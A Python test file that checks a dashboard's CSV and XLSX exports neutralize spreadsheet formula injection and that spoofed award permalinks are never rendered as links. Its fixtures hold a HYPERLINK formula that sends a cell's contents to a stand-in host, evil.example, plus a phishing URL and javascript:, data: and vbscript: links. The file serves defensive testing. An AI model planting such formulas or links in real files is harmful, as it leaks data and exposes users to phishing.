"""Issue 13: hostile and damaged input, built inside each test from real rows of ../shared/data.

Spreadsheet formulas: a vendor named `=HYPERLINK(…)` must reach every CSV and XLSX meant for a spreadsheet
as inert text (OWASP: a leading apostrophe), while `graph export --format csv` (neo4j-admin import) keeps the
raw value and says so."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import openpyxl
import pytest

from tests.apptest_support import download, run, serve
from tests.dashboard_support import HOSTILE_KEY, HOSTILE_UEI, ROOT, _ingest, curated_env, hostile_file

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
INERT = "'" + FORMULA
PHISH = "https://evil.example/phish"


@pytest.fixture(scope="module")
def formula_home(tmp_path_factory):
    """A real ICE award row whose vendor and description are the formula and whose permalink is a phishing page,
    alone in a store."""
    folder = tmp_path_factory.mktemp("formula")
    home = folder / "kg"
    _ingest(home, "normalized", str(hostile_file(folder, FORMULA, permalink=PHISH)))
    return home


@pytest.fixture
def formula_app(formula_home, monkeypatch):
    return serve(formula_home, monkeypatch)


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def test_dashboard_csv_and_xlsx_downloads_neutralize_formulas(formula_app):
    targets = run("targets", agency="ICE", today="2025-01-01")
    targets.button(key="t_prepare").click().run()
    for label in ("Ranking with citations (CSV)", "Awards behind the ranking (CSV)"):
        cells = csv_cells(download(targets, label))
        assert INERT in cells, label
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), label
    book = openpyxl.load_workbook(io.BytesIO(download(targets, "Ranking, awards and calendar (XLSX)")))
    values = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert INERT in values and FORMULA not in values
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    vendor = run("vendor", name=HOSTILE_UEI)
    cells = csv_cells(download(vendor, "Awards (CSV)"))
    assert INERT in cells and FORMULA not in cells


def test_graph_export_csv_keeps_raw_values_and_says_so(formula_home, tmp_path):
    out = tmp_path / "import"
    done = subprocess.run([sys.executable, "-m", "graph", "export", "--format", "csv", str(out)], cwd=ROOT,
                          capture_output=True, text=True, env={**os.environ, **curated_env(formula_home)})
    assert done.returncode == 0, done.stderr
    assert "not made safe for spreadsheets" in done.stdout
    cells = [cell for path in out.glob("nodes_*.csv") for cell in csv_cells(path.read_bytes())]
    assert FORMULA in cells  # what neo4j-admin imports: the name as recorded


@pytest.mark.parametrize("link", [PHISH, "javascript:alert(1)", "data:text/html,<b>x</b>", "vbscript:msgbox(1)"])
def test_a_spoofed_permalink_is_never_a_link_and_never_cited(link):
    from dashboard.exports import citation
    from dashboard.profile import entity_links

    award = {"key": HOSTILE_KEY, "permalink": link, "vendor": {"id": "uei:X", "name": "X"}, "awarding_agency": {}}
    assert entity_links(award)["permalink"] is None
    cited = citation(award)
    assert f"USAspending: https://www.usaspending.gov/award/{HOSTILE_KEY}/ [the record's own link differs" in cited


def test_the_vendor_page_links_the_rebuilt_permalink_only(formula_app):
    vendor = run("vendor", name=HOSTILE_UEI)
    awards = next(d.value for d in vendor.dataframe if "obligated_basis" in d.value.columns)
    assert list(awards["permalink"]) == [None]  # the phishing link is not clickable
    assert f"https://www.usaspending.gov/award/{HOSTILE_KEY}/" in vendor.code[0].value
    assert PHISH not in vendor.code[0].value.split("not used:")[0]


def test_two_columns_of_one_name_stop_the_file_naming_both_positions(shared_data, tmp_path):
    source = sorted((shared_data / "spending_by_transaction_ice_cbp_fy2021_2026").glob("*.csv"))[0]
    with source.open(newline="", encoding="utf-8-sig") as handle:
        rows = [row for _, row in zip(range(4), csv.reader(handle))]
    header = rows[0]
    twice = header[0]
    rows[0] = [twice if i == 5 else name for i, name in enumerate(header)]
    path = tmp_path / "twice.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    home = tmp_path / "kg"
    done = subprocess.run([sys.executable, "-m", "ingest", "transactions-csv", str(path), "--no-progress"], cwd=ROOT,
                          capture_output=True, text=True, env={**os.environ, **curated_env(home)})
    assert done.returncode == 1 and done.stderr.count("\n") == 1, done.stderr
    assert str(path) in done.stderr and f"column {twice!r} twice, at positions 1 and 6" in done.stderr
    from graph.store import open_store

    assert open_store("embedded", home=home).stats()["nodes"] == {}  # nothing loaded
